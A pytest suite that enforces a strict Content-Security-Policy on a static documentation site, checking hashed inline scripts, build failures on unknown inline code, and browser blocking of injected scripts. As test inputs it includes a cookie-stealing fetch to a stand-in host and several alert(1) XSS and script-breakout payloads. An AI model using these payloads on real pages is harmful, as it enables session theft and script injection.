"""The stricter Content-Security-Policy: no page allows 'unsafe-inline' or
'unsafe-hashes'; the build lists the SHA-256 of the inline scripts and styles
the project knows it writes (scripts/postbuild/known_inline.py: the theme's
and the overrides' scripts, read from their templates, and the build's own
CSS), checked by scripts/postbuild/csp.py, the last build step; any other
inline script, handler or style= attribute stops the build, naming the page. Styles are as strict
('self' and hashes); DNS prefetching is off; the policy comes before the
first script of the page. The audits in test_privacy.py and test_firefox.py
see no console error with it."""
import re
from pathlib import Path

import material
import pytest

from postbuild import csp
from helpers import ROOT, build_site, wake_theme
from postbuild import known_inline
from translation_project import copy_project, output

CSP = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">')


def directives(policy):
    found = {}
    for part in policy.split(";"):
        words = part.split()
        if words:
            found[words[0]] = words[1:]
    return found


def test_no_page_allows_unhashed_inline_scripts_or_styles(site, pages):
    for rel in pages:
        html = (site / rel).read_text(encoding="utf-8")
        policy = directives(CSP.search(html).group(1))
        assert "'unsafe-inline'" not in policy["script-src"], rel
        assert "'unsafe-inline'" not in policy["style-src"], rel
        assert "'unsafe-eval'" not in policy["script-src"], rel
        found = csp.inline_code(html)
        for script in found.scripts:
            assert csp.sha256(script) in policy["script-src"], f"{rel}: an inline script is not hashed"
        for style in found.styles:
            assert csp.sha256(style) in policy["style-src"], f"{rel}: an inline style is not hashed"
        assert found.scripts, f"{rel}: the theme's inline scripts are gone; is this test still right?"


def test_the_policy_comes_before_any_script_and_dns_prefetch_is_off(site, pages):
    for rel in pages:
        html = (site / rel).read_text(encoding="utf-8")
        assert html.index("Content-Security-Policy") < html.index("<script"), rel
        assert '<meta http-equiv="x-dns-prefetch-control" content="off">' in html, rel


def known():
    return known_inline.KnownInline([ROOT / "overrides", Path(material.__file__).parent / "templates"])


PAGE = ('<html><head><meta http-equiv="Content-Security-Policy" content="default-src \'self\'; '
        'script-src \'self\'; style-src \'self\'">{head}</head><body>{body}'
        '<script type="application/json">{{"x": 1}}</script><script src="x.js"></script></body></html>')
OVERRIDE = (ROOT / "overrides/partials/javascripts/base.html").read_text(encoding="utf-8")
OVERRIDE_SCRIPT = OVERRIDE[OVERRIDE.index("<script>") + 8:OVERRIDE.index("</script>")]


def test_the_known_scripts_are_hashed_and_data_is_not():
    theme = (Path(material.__file__).parent / "templates/partials/javascripts/palette.html").read_text()
    palette = theme[theme.index("<script>") + 8:theme.index("</script>")]
    ours = OVERRIDE_SCRIPT.replace("{{ config.extra.scope | d(base_url) }}", "..")
    page = PAGE.format(head="", body=f"<script>{palette}</script><script>{ours}</script>")
    policy = directives(CSP.search(csp.hash_page(page, known())).group(1))
    assert policy["script-src"] == ["'self'", csp.sha256(palette), csp.sha256(ours)]
    assert csp.sha256('{"x": 1}') not in policy["script-src"]  # data, never run


@pytest.mark.parametrize("head,body,expected", [
    ("", "<script>fetch('https://x.example/?'+document.cookie)</script>", "inline script the project does not know"),
    ("", '<script type="text/plain ">alert(1)</script>', "inline script the project does not know"),
    ("", '<details open ontoggle="alert(1)"><summary>x</summary></details>', "event-handler attribute"),
    ("", '<img src="i.png" onload="go()">', "event-handler attribute"),
    ("", '<div style="position:fixed;inset:0">x</div>', "style= attribute"),
    ("<style>.rs-exit{display:none}</style>", "", "<style> no build step wrote"),
    # the overrides' script with something else in the place of the root path
    ("", "<script>" + OVERRIDE_SCRIPT.replace("{{ config.extra.scope | d(base_url) }}",
                                              '",location);alert(1);("') + "</script>", "does not know"),
])
def test_unknown_inline_code_stops_the_build_naming_the_page(head, body, expected):
    with pytest.raises(known_inline.UnknownInlineCode, match="zh/x.html") as error:
        csp.hash_page(PAGE.format(head=head, body=body), known(), name="zh/x.html")
    assert expected in str(error.value)


def test_a_style_a_build_step_registered_is_hashed(tmp_path):
    path = tmp_path / "x.html"
    known_inline.allow_style(path, "p{color:red}")
    try:
        page = csp.hash_page(PAGE.format(head="<style>p{color:red}</style>", body=""), known(), path)
    finally:
        known_inline.forget_styles()
    assert directives(CSP.search(page).group(1))["style-src"] == ["'self'", csp.sha256("p{color:red}")]


def test_the_allow_list_fails_loudly_if_the_theme_changes(tmp_path):
    folder = tmp_path / "partials/javascripts"
    folder.mkdir(parents=True)
    (folder / "palette.html").write_text("{# the palette script moved elsewhere #}\n")
    with pytest.raises(known_inline.UnknownInlineCode, match="theme changed"):
        known_inline.KnownInline([tmp_path, ROOT / "overrides", Path(material.__file__).parent / "templates"])


def test_the_unknown_code_is_traced_to_its_markdown_file(tmp_path):
    docs = tmp_path / "docs"
    (docs / "zh").mkdir(parents=True)
    (docs / "zh" / "about.md").write_text("# x\n\ntext\n<b onclick=\"go()\">x</b>\n", encoding="utf-8")
    source = csp.source_of("zh/about.html", docs, "en", ["en", "zh"])
    assert source == docs / "zh" / "about.md"
    with pytest.raises(known_inline.UnknownInlineCode, match=r"zh/about\.md:4\)"):
        csp.hash_page(PAGE.format(head="", body='<b onclick="go()">x</b>'), known(), None, source, "zh/about.html")


def test_no_page_allows_unsafe_hashes(site):
    for path in site.rglob("*.html"):
        assert "unsafe-hashes" not in path.read_text(encoding="utf-8"), path


@pytest.mark.slow  # a build of its own
def test_an_inline_script_in_a_template_fails_the_build(tmp_path):
    project = copy_project(tmp_path / "project")
    template = project / "overrides" / "main.html"
    text = template.read_text(encoding="utf-8")
    template.write_text(text.replace("{% block header %}\n  {{ super() }}",
                                     "{% block header %}\n  {{ super() }}<script>window.x=1</script>", 1),
                        encoding="utf-8")
    result = build_site(tmp_path / "site", project)
    assert result.returncode != 0
    assert "zh/check.html: inline code that its Content-Security-Policy must not allow" in output(result)
    assert "'window.x=1'" in output(result)


VIOLATIONS = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (e) => {
  window.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample });
});
"""


@pytest.mark.parametrize("rel", ["index.html", "zh/check.html"])
def test_an_injected_inline_script_is_blocked_while_the_pages_own_run(make_context, server, site, rel):
    context, audit = make_context()
    context.add_init_script(VIOLATIONS)
    html = (site / rel).read_text(encoding="utf-8")
    injected = html.replace("</body>", "<script>window.__injected = true;</script></body>")
    page = context.new_page()
    page.route(server + rel, lambda route: route.fulfill(body=injected, content_type="text/html; charset=utf-8"))
    page.goto(server + rel)
    page.wait_for_load_state("load")
    assert page.evaluate("window.__injected") is None, "the unhashed script ran"
    violations = page.evaluate("window.__violations")
    assert [v["directive"] for v in violations] == ["script-src-elem"], violations
    assert violations[0]["blocked"] == "inline"
    # the page's own inline scripts (hashed) and files ran
    assert page.evaluate("typeof __md_get") == "function"
    wake_theme(page)  # the theme's bundle loads at the first touch (on-demand.js)
    assert page.evaluate("document.documentElement.classList.contains('js')"), "the theme's bundle did not run"
    assert page.locator("[data-quick-exit]").count() == 1
    if "check" in rel:
        page.locator("form#self-check input[type=radio]").first.check()
        assert page.locator("#self-check-result .sc-level").count() > 0, "the self-check script did not run"
    assert len(audit.console_errors) == 1 and "Content Security Policy" in audit.console_errors[0]


def test_no_page_of_the_site_violates_its_own_policy(make_context, origin, pages):
    context, audit = make_context()
    context.add_init_script(VIOLATIONS)
    page = context.new_page()
    for rel in pages:
        if origin.startswith("file:") and rel.endswith("404.html"):
            continue
        page.goto(origin + rel)
        page.wait_for_load_state("load")
        assert page.evaluate("window.__violations") == [], rel
    assert audit.console_errors == []
